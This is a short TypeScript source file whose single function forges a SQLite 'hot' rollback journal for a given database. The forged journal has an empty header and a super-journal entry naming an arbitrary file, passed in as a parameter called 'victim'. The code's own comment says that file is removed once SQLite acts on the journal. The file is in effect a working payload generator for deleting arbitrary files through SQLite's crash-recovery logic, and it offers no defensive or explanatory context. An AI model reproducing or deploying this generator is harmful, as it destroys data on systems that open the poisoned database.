/** Rollback journals as SQLite would act upon them. */
import { readFileSync } from 'node:fs';

const magic = Buffer.from('d9d505f920a163d7', 'hex');

/** Of the database at `path`: nothing to be taken back, and the name of a file that is removed after that. */
export function hotJournal(path: string, victim: string): Buffer {
  const head = readFileSync(path);
  const size = head.readUInt16BE(16) === 1 ? 65_536 : head.readUInt16BE(16);
  const header = Buffer.alloc(512);
  magic.copy(header);
  for (const [at, value] of [0, 0x1234, head.length / size, 512, size].entries())
    header.writeUInt32BE(value, 8 + 4 * at);
  const name = Buffer.from(victim);
  const numbers = Buffer.alloc(12);
  numbers.writeUInt32BE(Math.floor(0x40000000 / size) + 1, 0);
  numbers.writeUInt32BE(name.length, 4);
  numbers.writeInt32BE(
    new Int8Array(name).reduce((sum, byte) => sum + byte, 0),
    8,
  );
  return Buffer.concat([header, numbers.subarray(0, 4), name, numbers.subarray(4), magic]);
}
